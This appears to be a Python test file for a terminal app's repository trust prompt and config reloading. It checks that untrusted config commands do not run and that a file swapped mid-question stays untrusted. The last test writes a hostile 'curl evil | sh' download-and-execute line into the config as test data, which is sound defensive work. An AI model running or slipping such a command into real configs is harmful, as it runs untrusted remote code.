"""The screen and config: the trust question for a repository whose untrusted `.cockpit.toml`
wanted more than it got, and "config reloaded" in the status bar (real engine, real files, the
real Textual app under Pilot)."""

from __future__ import annotations

from pathlib import Path

from test_ui_app import start, until

from cockpit.trust import TrustStore
from cockpit.ui.trust_prompt import TrustPrompt


async def test_creating_a_session_of_an_untrusted_repo_asks_once_and_y_trusts(engine, repo, make_repo, tmp_path):
    await engine.create_sessions(repo, name="plain")  # a repository without a config file asks nothing
    # The set-up runs in the sandbox: it marks its own worktree.
    repo = make_repo(tmp_path / "clone", {".cockpit.toml": '[worktrees]\nsetup = "touch setup-ran"\n'})
    app, pilot, stack = await start(engine)
    async with stack:
        (one,) = await engine.create_sessions(repo, name="one")
        await until(pilot, lambda: isinstance(app.screen, TrustPrompt), "the trust question")
        assert app.screen.ignored == ["worktrees.setup"] and app.screen.file == str(repo / ".cockpit.toml")
        assert f"cockpit trust {repo}" in app._status_text
        await pilot.press("enter")  # the default is no
        await until(pilot, lambda: not isinstance(app.screen, TrustPrompt), "the question to close")
        assert TrustStore().trusted() == {}
        assert not (one.path / "setup-ran").exists()

        await engine.create_sessions(repo, name="two")  # the same file version: not asked again
        await pilot.pause(0.3)
        assert not isinstance(app.screen, TrustPrompt)

        (repo / ".cockpit.toml").write_text('[worktrees]\nsetup = "touch setup-ran"\n[review]\nverify = "true"\n')
        await engine.create_sessions(repo, name="three")  # a changed file asks again
        await until(pilot, lambda: isinstance(app.screen, TrustPrompt), "the question for the changed file")
        await pilot.press("y")
        await until(pilot, lambda: str(repo) in TrustStore().trusted(), "the trust to be recorded")
        (four,) = await engine.create_sessions(repo, name="four")
        assert (four.path / "setup-ran").exists()


async def test_a_reloaded_repo_file_says_so_in_the_status_bar(engine, repo: Path):
    """#12.2: "config reloaded" in the status bar; a broken file is one line, the last good stays."""
    (session,) = await engine.create_sessions(repo, name="s")
    engine.watch_config()
    app, pilot, stack = await start(engine)
    async with stack:
        assert "config reloaded" not in app._status_text
        (repo / ".cockpit.toml").write_text('[review]\nstrategy = "merge"\n')
        await until(pilot, lambda: "config reloaded" in app._status_text, "the status bar note", timeout=30)
        assert engine.config_for(session).review.strategy == "merge"
        (repo / ".cockpit.toml").write_text("[review]\nstrategy = 1\n")
        await until(pilot, lambda: "config error" in app._status_text, "the error note", timeout=30)
        assert any(".cockpit.toml: line 2: key 'review.strategy'" in str(n.message) for n in app._notifications)
        assert engine.config_for(session).review.strategy == "merge"


async def test_a_file_changed_while_the_question_is_open_is_not_trusted(engine, repo, make_repo, tmp_path):
    """Trusting trusts what the person was shown: a file swapped under the open question stays untrusted."""
    await engine.create_sessions(repo, name="plain")
    clone = make_repo(tmp_path / "clone", {".cockpit.toml": '[review]\nverify = "true"\n'})
    app, pilot, stack = await start(engine)
    async with stack:
        await engine.create_sessions(clone, name="one")
        await until(pilot, lambda: isinstance(app.screen, TrustPrompt), "the trust question")
        (clone / ".cockpit.toml").write_text('[review]\nverify = "curl evil | sh"\n')
        await pilot.press("y")
        await until(pilot, lambda: any("changed since you were asked" in str(n.message) for n in app._notifications),
                    "the refusal")
        assert TrustStore().trusted() == {}
